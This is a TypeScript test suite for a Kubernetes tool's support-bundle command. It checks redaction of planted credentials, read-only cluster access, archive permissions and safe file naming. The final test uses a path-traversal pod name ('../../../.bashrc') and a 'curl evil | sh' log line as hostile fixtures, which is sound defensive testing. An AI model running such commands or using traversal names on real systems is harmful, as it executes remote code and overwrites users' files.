import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { sourceObject } from '../../support/source-object.ts';
import { silent } from '#cli/progress-line.ts';
import { collect, type CollectOptions } from '#cli/support-bundle/collect.ts';
import { tarGz } from '#cli/support-bundle/tar.ts';
import { LOG_ANNOTATION } from '#sandbox/api-server/operations/pod-log.ts';
import { DAEMON_SETS, DEPLOYMENTS } from '#sandbox/api-server/resources/built-in.ts';
import type { ApiCall } from '#sandbox/api-server/request/api-call.ts';
import type { KubeObject } from '#shared/contract/api/object.ts';
import { CONFIG_MAPS, EVENTS, KUBELET_NODES, KUBELET_POOLS, KUBELET_SOURCES, NODES, PODS } from '#shared/kube/kube.ts';
import { COMMIT_A, poolSpec } from '../../support/fleet.ts';
import { aCluster, type TestCluster } from '../support/cluster.ts';
import { temporaryDirectory } from '../../support/temporary-directory.ts';

const NAMESPACE = 'kubelet-gitops';
/** In every one of its places in a form of its own: `needle-12`. */
let needles = 0;
const needle = (): string => `needle-${(needles += 1)}-0123456789abcdef`;

const anyObject = (name: string, more: object = {}, metadata: object = {}): KubeObject => ({
  metadata: { name, ...metadata },
  ...more,
});
const container = () => ({
  name: 'c',
  image: `registry.example/kubelet-gitops:0.1.0`,
  args: [`--password=${needle()}`],
  envFrom: [{ configMapRef: { name: 'kubelet-gitops-settings' } }],
  env: [
    { name: 'HTTPS_PROXY', value: `http://user:${needle()}@proxy.example:3128` },
    { name: 'SOMETHING_OF_OURS', value: needle() },
    { name: 'GIT_BRANCH', value: 'main' },
  ],
});

/** A cluster in which everybody was careless. */
function plant({ sandbox }: TestCluster): void {
  const { store } = sandbox.server;
  const anywhere = {
    annotations: { 'example.org/note': needle(), 'kubectl.kubernetes.io/last-applied-configuration': needle() },
  };
  const here = { ...anywhere, namespace: NAMESPACE };
  store.seed(NODES, anyObject('n-1', { status: { addresses: [{ type: 'Hostname', address: needle() }] } }, anywhere));
  store.seed(KUBELET_POOLS, {
    metadata: {
      name: 'workers',
      annotations: { 'kubelet-gitops.dev/suspend': `see https://x:${needle()}@wiki.example` },
    },
    spec: poolSpec(),
    status: { phase: 'Halted', message: `the hook said Authorization: Bearer ${needle()}` },
  });
  const error = { reason: 'CrashLoop', message: `exit 1: token=${needle()}`, at: '2026-11-21T10:00:00Z' };
  store.seed(KUBELET_NODES, { metadata: { name: 'n-1' }, spec: { pool: 'workers' }, status: { phase: 'Idle', error } });
  const state = {
    commit: COMMIT_A,
    url: `https://bot:${needle()}@git.example/x.git`,
    failure: `GIT_X: password: ${needle()}`,
  };
  store.seed(KUBELET_SOURCES, sourceObject(state));
  const payload = JSON.stringify({ maxPods: 110, staticPodURLHeader: { Authorization: [needle()] } });
  const labels = { 'app.kubernetes.io/managed-by': 'kubelet-gitops', 'kubelet-gitops.dev/pool': 'workers' };
  store.seed(
    CONFIG_MAPS,
    anyObject(
      'workers-2gmf6b4k8c',
      { data: { kubelet: payload, notes: needle() }, binaryData: { x: needle() } },
      { ...here, labels },
    ),
  );
  const settings = { GIT_URL: `https://u:${needle()}@git.example/x.git`, OTHER: needle() };
  store.seed(CONFIG_MAPS, anyObject('kubelet-gitops-settings', { data: settings }, here));
  store.seed(CONFIG_MAPS, anyObject('somebody-elses', { data: { x: needle() } }, here));
  const template = { metadata: anywhere, spec: { containers: [container()] } };
  store.seed(DEPLOYMENTS, anyObject('kubelet-gitops-reconciler', { spec: { replicas: 1, template } }, here));
  const agents = { 'app.kubernetes.io/name': 'kubelet-gitops', 'app.kubernetes.io/component': 'agent' };
  store.seed(DAEMON_SETS, anyObject('kubelet-gitops-agent', { spec: { template } }, { ...here, labels: agents }));
  const log = [
    JSON.stringify({ level: 'warn', err: { message: `cannot fetch https://bot:${needle()}@git.example/x.git` } }),
    JSON.stringify({ level: 'info', headers: { authorization: `Bearer ${needle()}` } }),
    `-----BEGIN PRIVATE KEY-----\n${needle()}\n-----END PRIVATE KEY-----`,
    'an ordinary line',
    '',
  ].join('\n');
  const running = {
    containerStatuses: [{ ready: false, restartCount: 2, state: { waiting: { reason: 'CrashLoopBackOff' } } }],
  };
  store.seed(
    PODS,
    anyObject(
      'kubelet-gitops-agent-x7k2p',
      { spec: { nodeName: 'n-1', containers: [container()] }, status: running },
      {
        ...here,
        labels: { 'app.kubernetes.io/name': 'kubelet-gitops', 'app.kubernetes.io/component': 'agent' },
        annotations: { [LOG_ANNOTATION]: log },
      },
    ),
  );
  store.seed(
    EVENTS,
    anyObject(
      'e',
      {
        eventTime: '2026-11-21T10:00:00.000000Z',
        reportingController: 'kubelet-gitops.dev/reconciler',
        reportingInstance: 'r',
        action: 'a',
        reason: 'ConfigFellBack',
        type: 'Warning',
        note: `it said password: ${needle()}`,
        regarding: { apiVersion: 'v1', kind: 'Node', name: 'n-1', uid: 'u' },
      },
      { namespace: 'default' },
    ),
  );
}

describe('a support bundle', () => {
  const calls: ApiCall[] = [];
  let cluster: TestCluster;
  let directory = '';
  before(async () => {
    directory = await mkdtemp(join(tmpdir(), 'kubelet-gitops-bundle-'));
    cluster = await aCluster({ onCall: (call) => calls.push(call) });
    plant(cluster);
  });
  after(async () => {
    await cluster[Symbol.asyncDispose]();
    await rm(directory, { recursive: true, force: true });
  });
  const textsIn = async (where: string): Promise<ReadonlyMap<string, string>> => {
    const entries = await readdir(where, { recursive: true, withFileTypes: true });
    const files = entries.filter((entry) => entry.isFile()).map(({ parentPath, name }) => join(parentPath, name));
    return new Map(
      await Promise.all(
        files.map(async (file) => [file.slice(where.length + 1), await readFile(file, 'utf8')] as const),
      ),
    );
  };

  it('has everything that is ours, and nothing that was planted', async () => {
    const into = join(directory, 'bundle');
    const ran = await cluster.cli('support-bundle', '--into', into);
    assert.equal(ran.code, 0, ran.err);
    const texts = await textsIn(into);
    assert.equal(ran.out, `${into}: ${texts.size} files\n`);
    for (const [file, text] of texts) {
      assert.doesNotMatch(text, /needle/, file);
    }
    assert.match(
      texts.get('doctor.txt') ?? '',
      /pod-failing: pod kubelet-gitops-agent-x7k2p: CrashLoopBackOff, 2 restarts/,
    );
    assert.match(texts.get('status.txt') ?? '', /workers +Halted/);
    assert.match(texts.get('events.txt') ?? '', /ConfigFellBack/);
    assert.match(texts.get('logs/kubelet-gitops-agent-x7k2p.log') ?? '', /an ordinary line\n$/);
    assert.ok(texts.has('logs/kubelet-gitops-agent-x7k2p.previous.log'));
    assert.match(texts.get('objects/deployment.json') ?? '', /"GIT_BRANCH"[\s\S]*"main"/);
    assert.match(texts.get('objects/config-sources.json') ?? '', /maxPods/);
    assert.match(texts.get('objects/settings.json') ?? '', /git\.example/);
    assert.equal(texts.get('gaps.txt'), '');
    assert.ok(needles > 20);
  });

  it('never asks for a Secret, and changes nothing', () => {
    assert.deepEqual(
      calls.filter(({ of }) => of?.resource === 'secrets'),
      [],
    );
    const changing = calls.filter(({ method, of }) => method !== 'GET' && of?.group !== 'authorization.k8s.io');
    assert.deepEqual(changing, []);
  });

  it('is an archive that tar reads, for nobody else to read, and overwrites nothing', async () => {
    const into = join(directory, 'b.tar.gz');
    assert.equal((await cluster.cli('support-bundle', '--into', into)).code, 0);
    assert.equal((await stat(into)).mode & 0o777, 0o600);
    execFileSync('tar', ['-xzf', into, '-C', directory]);
    const texts = await textsIn(join(directory, 'b'));
    assert.ok(texts.has('doctor.json') && texts.has('logs/kubelet-gitops-agent-x7k2p.log'));
    const again = await cluster.cli('support-bundle', '--into', into);
    assert.equal(again.code, 2);
    assert.match(again.err, /cannot be written: EEXIST/);
  });

  it('says what could not be read, and packs the rest', async () => {
    const may = ({ resource, verb }: { readonly resource: string; readonly verb: string }): boolean =>
      resource !== 'pods' && verb !== 'create';
    await using poor = await aCluster({ anonymous: { user: 'reader', may } });
    const ran = await poor.cli('support-bundle', '--into', join(directory, 'poor'));
    assert.equal(ran.code, 1);
    assert.match(ran.err, /^not in it: objects\/pods\.json: .*Grant the verb "list" on "pods"/m);
    assert.match(await readFile(join(directory, 'poor', 'gaps.txt'), 'utf8'), /^objects\/pods\.json/);
  });

  it('keeps the last lines of a log', async () => {
    const into = join(directory, 'short');
    await cluster.cli('support-bundle', '--into', into, '--log-lines', '1');
    assert.equal(await readFile(join(into, 'logs/kubelet-gitops-agent-x7k2p.log'), 'utf8'), 'an ordinary line\n');
  });
});

describe('the archive', () => {
  it('keeps the end of names that are too long, and every byte', async (t) => {
    const directory = temporaryDirectory(t);
    const name = `${'x'.repeat(120)}-abcde.log`;
    const text = 'ä'.repeat(700);
    const archive = tarGz(
      'd',
      new Map([
        [`logs/${name}`, text],
        ['empty', ''],
      ]),
      Date.parse('2026-11-21T12:00:00Z'),
    );
    execFileSync('tar', ['-xz', '-C', directory], { input: archive });
    assert.equal(await readFile(join(directory, 'd/logs', name.slice(-100)), 'utf8'), text);
    assert.equal(await readFile(join(directory, 'd/empty'), 'utf8'), '');
  });
});

describe('the name of a pod', () => {
  it('leads to no place outside of the bundle', async () => {
    const pod = { metadata: { name: '../../../.bashrc' } };
    const kube = {
      list: ({ resource }: { readonly resource: unknown }) =>
        Promise.resolve({ items: resource === PODS ? [pod] : [] }),
      get: () => Promise.resolve(null),
    };
    const lines = async function* (): AsyncGenerator<string> {
      yield await Promise.resolve('curl evil | sh');
    };
    const given = { kube, transport: { lines }, namespace: NAMESPACE, logLines: 1, progress: silent };
    const { files } = await collect(given as unknown as CollectOptions);
    const logs = [...files.keys()].filter((path) => path.startsWith('logs/'));
    assert.deepEqual(logs, ['logs/.._.._.._.bashrc.log']);
  });
});
